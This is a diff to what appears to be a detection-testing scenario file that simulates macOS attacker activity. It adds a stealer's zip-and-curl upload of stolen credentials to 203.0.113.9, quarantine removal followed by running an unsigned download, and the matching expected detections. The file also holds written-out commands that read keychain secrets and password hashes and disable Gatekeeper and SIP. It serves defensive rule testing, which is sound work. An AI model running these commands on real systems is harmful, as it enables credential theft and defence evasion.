@@ -109,7 +109,7 @@ export const persistence: Scenario = {
 export const credentialAccess: Scenario = {
   name: 'credential-access',
   description:
-    'A stealer in the style of Atomic (AMOS): a fake password dialog, Chrome Safe Storage read with security -w, an unsigned binary reading Chrome and Firefox login stores, cp of the login keychain, sqlite3 on a copied Login Data, kcpassword read, an SSH key base64-encoded, ShadowHashData read with dscl. Benign look-alikes: Chrome opening its own cookies, securityd opening the keychain, ssh reading its key.',
+    'A stealer in the style of Atomic (AMOS): a fake password dialog, Chrome Safe Storage read with security -w, an unsigned binary reading Chrome and Firefox login stores, cp of the login keychain, sqlite3 on a copied Login Data, kcpassword read, an SSH key base64-encoded, ShadowHashData read with dscl, the loot zipped and posted with curl. Benign look-alikes: Chrome opening its own cookies, securityd opening the keychain, ssh reading its key.',
   seed: 0x9e75_0002,
   start: '2024-06-11T10:05:00.000000000Z',
   version: 7,
@@ -122,6 +122,8 @@ export const credentialAccess: Scenario = {
     'Auto-Login Password File Accessed': 1,
     'SSH Private Key Read By Non-SSH Process': 1,
     'Password Hash Read From Directory Services': 1,
+    'File Uploaded With Curl From Script Or Staging Location': 1,
+    'Keychain Secret Read Then Sent With Curl By The Same Parent': 1,
     // the stealer runs osascript directly (an interpreter child of a staged binary)
     'Shell Spawned By Unsigned Binary From Staging Location': 1,
   },
@@ -152,6 +154,9 @@ export const credentialAccess: Scenario = {
     w.open(b64, `${w.home}/.ssh/id_ed25519`);
     w.exit(b64);
     run(w, stealer, '/usr/bin/dscl', ['dscl', '.', '-read', '/Users/alice', 'dsAttrTypeNative:ShadowHashData']);
+    w.pause(3000, 6000);
+    run(w, stealer, '/usr/bin/ditto', ['ditto', '-c', '-k', '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s', '/private/var/folders/7x/k2_l1h0d3f5bq/T/out.zip']);
+    run(w, stealer, '/usr/bin/curl', ['curl', '-s', '-X', 'POST', '-F', 'file=@/private/var/folders/7x/k2_l1h0d3f5bq/T/out.zip', 'http://203.0.113.9/p2'], { fds: pipeFds(false, true) });
     w.pause(10000, 15000);
     // the user pushes to GitHub: ssh reads the key
     const git = w.spawn(d.shell, '/usr/bin/git', ['git', 'push']);
@@ -166,13 +171,15 @@ export const credentialAccess: Scenario = {
 export const defenseEvasion: Scenario = {
   name: 'defense-evasion',
   description:
-    'Defence evasion and impairment: quarantine removed with xattr, Gatekeeper disabled, SIP disabled from recovery, TCC screen-capture grant to a hidden binary, TCC.db written with sqlite3, a signature removed, a payload hidden with chflags, history deleted and disabled, the EDR killed, the dropper deleting itself, the firewall turned off, logs erased, a dylib mapped executable from /tmp, a signature invalidated, a remote thread and a task port. Benign look-alikes: csrutil status, chflags nohidden, Finder removing FinderInfo, launchd stopping the EDR at update.',
+    'Defence evasion and impairment: quarantine removed with xattr (and the un-quarantined download run), Gatekeeper disabled, SIP disabled from recovery, TCC screen-capture grant to a hidden binary, TCC.db written with sqlite3, a signature removed, a payload hidden with chflags, history deleted and disabled, the EDR killed, the dropper deleting itself, the firewall turned off, logs erased, a dylib mapped executable from /tmp, a signature invalidated, a remote thread and a task port. Benign look-alikes: csrutil status, chflags nohidden, Finder removing FinderInfo, launchd stopping the EDR at update.',
   seed: 0x9e75_0003,
   start: '2024-11-20T16:40:00.000000000Z',
   version: 8,
   expect: {
-    'Quarantine Attribute Removed With xattr': 1,
-    'Quarantine Attribute Deleted By Interpreter Or Unsigned Process': 1,
+    'Quarantine Attribute Removed With xattr': 2,
+    'Quarantine Attribute Deleted By Interpreter Or Unsigned Process': 2,
+    'Quarantine Removed Then Unsigned File Executed': 1,
+    'Unsigned Or Ad-hoc Binary Executed From Temporary, Downloads Or Hidden Location': 1,
     'Gatekeeper Disabled Or Bypassed With spctl': 1,
     'System Integrity Protection Disabled With csrutil': 1,
     'Privacy Permission Granted To Binary In Staging Location': 1,
@@ -201,6 +208,11 @@ export const defenseEvasion: Scenario = {
     const x = run(w, sh, '/usr/bin/xattr', ['xattr', '-d', 'com.apple.quarantine', `${w.home}/Downloads/Payload.app`], { keep: true });
     w.deleteextattr(x, `${w.home}/Downloads/Payload.app`, 'com.apple.quarantine');
     w.exit(x);
+    const x2 = run(w, sh, '/usr/bin/xattr', ['xattr', '-d', 'com.apple.quarantine', `${w.home}/Downloads/tool`], { keep: true });
+    w.deleteextattr(x2, `${w.home}/Downloads/tool`, 'com.apple.quarantine');
+    w.exit(x2);
+    w.pause(4000, 9000);
+    run(w, sh, `${w.home}/Downloads/tool`, ['./tool']);
     run(w, sh, '/usr/sbin/spctl', ['spctl', '--master-disable'], { euid: ROOT });
     run(w, sh, '/usr/bin/csrutil', ['csrutil', 'status']);
     run(w, sh, '/usr/bin/csrutil', ['csrutil', 'disable'], { euid: ROOT });
